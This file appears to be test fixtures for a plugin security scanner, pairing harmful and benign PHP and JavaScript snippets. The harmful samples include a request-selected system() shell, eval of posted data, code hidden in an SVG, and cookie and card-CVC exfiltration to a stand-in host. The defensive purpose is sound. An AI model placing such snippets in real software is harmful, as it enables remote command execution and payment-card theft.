import { type FlowSample, javascriptFlow as js, phpFlow as php } from "./flow-sample.ts";

/** What well-known plugins do honestly and was once taken for harm, beside the harm that looks like it. */
export const idiomSamples: readonly FlowSample[] = [
  php(
    "a request chooses in a table of one's own",
    "call-received",
    "a:1",
    ["$views = get_defined_functions(); $views['internal'][$_GET['view']]('id');"],
    ["$views = ['list' => 'show_list', 'one' => 'show_one']; $views[$_GET['view']]('id');"],
  ),
  php(
    "a request chooses in a table that others may fill",
    "call-received",
    "a:1",
    ["$views = apply_filters('views', $_POST); $views[$_GET['view']]('id');"],
    ["$views = apply_filters('views', []); $views[$_GET['view']]('id');"],
  ),
  php(
    "a request chooses in a table that holds a shell",
    "call-hidden",
    "a:1",
    ["$views = ['list' => 'show_list', 'one' => 'system']; $views[$_GET['view']]($_GET['c']);"],
    ["$views = ['list' => 'show_list', 'one' => 'show_one']; $views[$_GET['view']]($_GET['c']);"],
  ),
  php(
    "what is put into a table",
    "call-received",
    "a:1",
    ["$do = ['a' => 'b']; $do[$key] = $_GET['f']; $do['a2']('id');"],
    ["$do = ['a' => 'b']; $do[$key] = 'c'; $do['a2']('id');"],
  ),
  php(
    "a table or what was sent",
    "call-received",
    "a:1",
    ["$do = ['a' => 'b']; if ($on) { $do = $_POST; } $do['a']('id');"],
    ["$do = ['a' => 'b']; if ($on) { $do = ['a' => $_POST['c'] ? 'd' : 'e']; } $do['a']('id');"],
  ),
  php(
    "a setter of an object that was sent",
    "call-received",
    "a:1",
    ["$order = make($_POST); $order->{$_POST['do']}($_POST['x']);"],
    ["$order = make($_POST); $name = 'set_' . $key; $order->$name($_POST['x']);"],
  ),
  php(
    "an object of what was sent is called",
    "eval-hidden",
    "a:1",
    [
      "(new Handler($_POST['a']))(); class Handler { function __construct($a) { $this->a = $a; } function __invoke() { eval($this->a); } }",
    ],
    [
      "(new Handler($_POST['a']))(); class Handler { function __construct($a) { $this->a = $a; } function __invoke() { return $this->a; } }",
    ],
  ),
  php(
    "arguments with defaults",
    "call-received",
    "a:1",
    [
      "class Nav { function __construct($args = []) { $this->args = wp_parse_args($args, ['url' => null, 'current' => '']); } function show() { return call_user_func($this->args['url'], 1); } }",
      "new Nav(['url' => $_GET['tab'], 'current' => 'a']);",
    ],
    [
      "class Nav { function __construct($args = []) { $this->args = wp_parse_args($args, ['url' => null, 'current' => '']); } function show() { return call_user_func($this->args['url'], 1); } }",
      "new Nav(['current' => $_GET['tab']]); new Nav(['url' => 'my_url', 'current' => 'a']);",
    ],
  ),
  php(
    "settings that are merged",
    "unserialize-received",
    "a:1",
    ["$all = array_merge(['a' => 1], ['b' => $_POST['b']]); unserialize($all['b']);"],
    ["$all = array_merge(['a' => load()], ['b' => $_POST['b']]); unserialize($all['a']);"],
  ),
  php(
    "what is found by what was sent",
    "unserialize-received",
    "a:1",
    ["$order = $this->orders->fill($_POST['data']); unserialize($order->getData());"],
    ["$order = $this->orders->load($_POST['id'], 'order_id'); unserialize($order->getData());"],
  ),
  php(
    "what a registry has under a name that was sent",
    "include-received",
    "a:1",
    [
      "class Registry extends ArrayObject { function item($id) { return $this->pathOf($id); } } $item = (new Registry())->item($_GET['id']); require $item['file'];",
    ],
    [
      "class Registry extends ArrayObject { function item($id) { return $this->offsetGet($id); } } $item = (new Registry())->item($_GET['id']); require $item['file'];",
    ],
  ),
  {
    title: "a picture of the package, drawn into the page",
    rule: "include-disguised",
    at: "views/cart.php:1",
    bad: { "views/cart.php": "<?php require MY_DIR . 'uploads/cart.svg';\n", "assets/cart.svg": "<svg/>\n" },
    good: { "views/cart.php": "<?php require MY_DIR . 'assets/cart.svg';\n", "assets/cart.svg": "<svg/>\n" },
  },
  {
    title: "a picture of the package that holds code",
    rule: "code-disguised",
    at: "assets/cart.svg:1",
    bad: { "views/cart.php": "<?php require MY_DIR . 'assets/cart.svg';\n", "assets/cart.svg": "<svg/><? run($a);\n" },
    good: { "views/cart.php": "<?php require MY_DIR . 'assets/cart.svg';\n", "assets/cart.svg": "<?xml?><svg/>\n" },
  },
  {
    title: "a soft hyphen",
    rule: "invisible-text",
    at: "is.php:1",
    bad: { "is.php": "<?php $ad\u00ADmin = 'x';\n" },
    good: { "is.php": "<?php $words['tax'] = 'skatta\u00ADregla';\n" },
  },
  js(
    "a window with somebody's page",
    "host-undeclared",
    "a:1",
    ["window.open('https://stat.evil-cdn.net/?c=' + document.cookie);"],
    ["window.open(`https://social.test/share?url=${encodeURIComponent(url)}`, 'share', 'width=500');"],
  ),
  js(
    "a request that is opened",
    "host-undeclared",
    "a:1",
    ["const x = new XMLHttpRequest(); x.open('POST', 'https://stat.evil-cdn.net/c');"],
    ["open('https://help.pay-docs.net/setup', '_blank');"],
  ),
  js(
    "a link in a script that styles the provider's card fields",
    "card-capture",
    "a:1",
    [
      "const at = 'https://stat.evil-cdn.net/c'; const cvc = '#my-card-cvc'; navigator.sendBeacon(at, document.querySelector(cvc).value);",
    ],
    ["const at = 'https://github.com/a/b'; const cvc = '#my-card-cvc'; $.ajax({ url: '/pay', data: cvc });"],
  ),
  js(
    "a table of functions and an unknown key",
    "eval-hidden",
    "a:1",
    ["const table = { a: eval, b: String }; table[key](location.hash);"],
    ["const table = { a: Number, b: String }; table[key](location.hash);"],
  ),
];
